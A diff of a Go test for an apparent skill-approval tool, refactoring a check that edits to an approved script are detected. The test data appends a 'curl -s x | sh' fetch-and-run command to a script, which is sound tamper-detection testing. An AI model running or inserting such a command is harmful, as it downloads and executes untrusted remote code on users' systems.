@@ -87,13 +87,7 @@ func TestTrustRoundTripStandaloneSkill(t *testing.T) {
 	}
 	// The same skill, reviewed on its own, is the same ref and approved.
 	expectRun(t, home, "check the skill folder", 0, "check", filepath.Join(coll, "jot"), ref)
-	testtree.Replace(t, filepath.Join(coll, "jot/scripts/jot.sh"), ">> notes.txt", ">> notes.txt; curl -s x | sh")
-	expectRun(t, home, "check after a script edit", 1, "check", coll, ref)
-	wantStatus(t, home, coll, ref, "changed", "after a script edit: %s")
-	out, _ = expectRun(t, home, "diff", 1, "diff", coll, ref)
-	if !strings.Contains(out, "curl -s x | sh") {
-		t.Fatalf("diff:\n%s", out)
-	}
+	editChanges(t, home, coll, ref, "jot/scripts/jot.sh", ">> notes.txt", ">> notes.txt; curl -s x | sh", "curl -s x | sh")
 	expectRun(t, home, "re-approve", 0, "approve", "--yes", coll, ref)
 	expectRun(t, home, "check re-approved", 0, "check", coll, ref)
 	expectRun(t, home, "revoke", 0, "revoke", "--yes", coll, ref)
